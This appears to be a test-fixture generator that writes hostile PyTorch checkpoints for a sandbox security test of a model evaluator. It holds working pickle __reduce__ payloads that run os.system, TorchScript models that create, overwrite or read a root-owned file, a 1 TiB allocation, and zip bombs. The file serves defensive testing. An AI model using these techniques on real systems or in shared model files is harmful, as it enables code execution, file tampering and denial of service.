"""Writes the hostile checkpoints of tests/security/torch/malicious_checkpoint_test.cc.

usage: make_malicious.py OUT_DIR CANARY_DIR PRIVATE_DIR

OUT_DIR gets the checkpoints and a two-class image folder (data/); CANARY_DIR is world-writable,
so code running as the evaluator's unprivileged user could create a file there; PRIVATE_DIR is
root's (mode 0700 or 0755 root-owned), so only a sandbox escape could write there.

  model.pt             a good TorchScript model (the control: it must be evaluated)
  arch.pt              the same module, the architecture for the state dicts below
  reduce_legacy.pt     torch.save(_use_new_zipfile_serialization=False) of an object whose
                       __reduce__ is os.system("touch CANARY_DIR/legacy"): a pre-1.6 pickle
  reduce_zip.pt        the same through torch.save's zip format (data.pkl names posix.system)
  reduce_nested.pt     a real state dict with the payload beside it ({"state_dict": sd, "x": evil})
  ts_create.pt         TorchScript whose forward creates PRIVATE_DIR/created with
                       torch.from_file(..., shared=True): file writes ARE expressible in
                       TorchScript; only the user switch stops this one
  ts_overwrite.pt      TorchScript that maps PRIVATE_DIR/victim shared and overwrites it
  ts_read.pt           TorchScript that reads PRIVATE_DIR/secret (mode 0600) into its output
  ts_raise.pt          TorchScript whose forward raises
  ts_huge.pt           TorchScript whose forward allocates 1 TiB
  bomb_inflate.pt      a torch.save zip whose data.pkl inflates to 4 GiB of zeros (4 MiB on disk)
  bomb_1tb.pt          a torch.save zip whose data.pkl claims 1 TiB in its zip64 sizes
Sockets are not expressible: TorchScript has no operator that opens one (the evaluator also runs
in a network namespace of its own when root).
"""
import os
import struct
import sys
import zlib

import torch
from PIL import Image

out, canary_dir, private_dir = sys.argv[1], sys.argv[2], sys.argv[3]


def p(name):
    return os.path.join(out, name)


class Tiny(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = torch.nn.Linear(3, 1000)

    def forward(self, x):
        return self.fc(x.mean(dim=(2, 3)))


torch.manual_seed(0)
tiny = Tiny().eval()
torch.jit.script(tiny).save(p("model.pt"))
torch.jit.script(tiny).save(p("arch.pt"))


class Evil:
    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return (os.system, ("touch " + os.path.join(canary_dir, self.marker),))


torch.save(Evil("legacy"), p("reduce_legacy.pt"), _use_new_zipfile_serialization=False)
torch.save(Evil("zip"), p("reduce_zip.pt"))
torch.save({"state_dict": tiny.state_dict(), "x": Evil("nested")}, p("reduce_nested.pt"))


class Create(torch.nn.Module):
    def __init__(self, path: str):
        super().__init__()
        self.path = path
        self.fc = torch.nn.Linear(3, 1000)

    def forward(self, x):
        made = torch.from_file(self.path, True, 64, dtype=torch.uint8)
        return self.fc(x.mean(dim=(2, 3))) + made.sum().float()


class Overwrite(torch.nn.Module):
    def __init__(self, path: str):
        super().__init__()
        self.path = path
        self.fc = torch.nn.Linear(3, 1000)

    def forward(self, x):
        victim = torch.from_file(self.path, True, 8, dtype=torch.uint8)
        victim.fill_(88)
        # Used in the output: otherwise optimize_for_inference drops the write as dead code.
        return self.fc(x.mean(dim=(2, 3))) + victim.float().sum()


class Read(torch.nn.Module):
    def __init__(self, path: str):
        super().__init__()
        self.path = path
        self.fc = torch.nn.Linear(3, 1000)

    def forward(self, x):
        secret = torch.from_file(self.path, False, 8, dtype=torch.uint8)
        return self.fc(x.mean(dim=(2, 3))) + secret.float().sum()


class Raise(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = torch.nn.Linear(3, 1000)

    def forward(self, x):
        if x.size(0) > 0:
            raise RuntimeError("hostile model refuses to run")
        return self.fc(x.mean(dim=(2, 3)))


class Huge(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = torch.nn.Linear(3, 1000)

    def forward(self, x):
        big = torch.ones([1 << 40], dtype=torch.uint8)
        return self.fc(x.mean(dim=(2, 3))) + big[0].float()


torch.jit.script(Create(os.path.join(private_dir, "created"))).save(p("ts_create.pt"))
torch.jit.script(Overwrite(os.path.join(private_dir, "victim"))).save(p("ts_overwrite.pt"))
torch.jit.script(Read(os.path.join(private_dir, "secret"))).save(p("ts_read.pt"))
torch.jit.script(Raise()).save(p("ts_raise.pt"))
torch.jit.script(Huge()).save(p("ts_huge.pt"))


def local_and_central(name, method, crc, usize, payload, offset):
    """One zip entry with zip64 sizes in both headers (so any size can be claimed)."""
    n = name.encode()
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 45, 0, method, 0, 0x21, crc, 0xFFFFFFFF,
                        0xFFFFFFFF, len(n), 20) + n + struct.pack("<HHQQ", 1, 16, usize,
                                                                  len(payload))
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 45, 45, 0, method, 0, 0x21, crc,
                          0xFFFFFFFF, 0xFFFFFFFF, len(n), 28, 0, 0, 0, 0, 0xFFFFFFFF) + n + \
        struct.pack("<HHQQQ", 1, 24, usize, len(payload), offset)
    return local, central


def write_torch_save_zip(path, pkl_method, pkl_crc, pkl_usize, pkl_payload_chunks):
    """archive/data.pkl (as given, streamed from chunks), archive/version, archive/byteorder."""
    payload_size = sum(len(c) * k for c, k in pkl_payload_chunks)
    entries = [("archive/data.pkl", pkl_method, pkl_crc, pkl_usize, pkl_payload_chunks,
                payload_size)]
    for name, body in (("archive/version", b"3\n"), ("archive/byteorder", b"little")):
        entries.append((name, 0, zlib.crc32(body), len(body), [(body, 1)], len(body)))
    centrals = []
    offset = 0
    with open(path, "wb") as f:
        for name, method, crc, usize, chunks, size in entries:
            local, central = local_and_central(name, method, crc, usize, b"\0" * 0, offset)
            # The compressed size in the headers is the real one.
            local = local[:-8] + struct.pack("<Q", size)
            central = central[:-16] + struct.pack("<QQ", size, offset)
            f.write(local)
            for chunk, repeat in chunks:
                for _ in range(repeat):
                    f.write(chunk)
            centrals.append(central)
            offset += len(local) + size
        cd_offset = offset
        cd = b"".join(centrals)
        f.write(cd)
        zip64_eocd_at = cd_offset + len(cd)
        f.write(struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, len(entries),
                            len(entries), len(cd), cd_offset))
        f.write(struct.pack("<IIQI", 0x07064B50, 0, zip64_eocd_at, 1))
        f.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(cd),
                            0xFFFFFFFF, 0))


GIB = 1 << 30
# 4 GiB of zeros as a deflate stream of identical fully flushed blocks (each one restarts the
# compressor, so repeating it is valid), ending with an empty final block: ~4 MiB on disk.
chunk = bytes(64 << 20)
compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
final = zlib.compressobj(9, zlib.DEFLATED, -15).flush(zlib.Z_FINISH)
repeats = (4 * GIB) // len(chunk)
crc = 0
chunk_crc = zlib.crc32(chunk)
for _ in range(repeats):
    crc = zlib.crc32(chunk, crc)
write_torch_save_zip(p("bomb_inflate.pt"), 8, crc, repeats * len(chunk),
                     [(block, repeats), (final, 1)])

# A 6-byte pickle whose headers claim 1 TiB.
tiny_pickle = zlib.compressobj(6, zlib.DEFLATED, -15)
tiny_pickle = tiny_pickle.compress(b"\x80\x02}q\x00.") + tiny_pickle.flush()
write_torch_save_zip(p("bomb_1tb.pt"), 8, zlib.crc32(b"\x80\x02}q\x00."), 1 << 40,
                     [(tiny_pickle, 1)])

for c, wnid in enumerate(["n01440764", "n01443537"]):
    os.makedirs(p(os.path.join("data", wnid)), exist_ok=True)
    for i in range(2):
        color = (40 * i + 100 * c, 200 - 50 * i, 30 + 60 * c)
        Image.new("RGB", (32, 24), color).save(p(os.path.join("data", wnid, f"img{i}.png")))
print("ok")
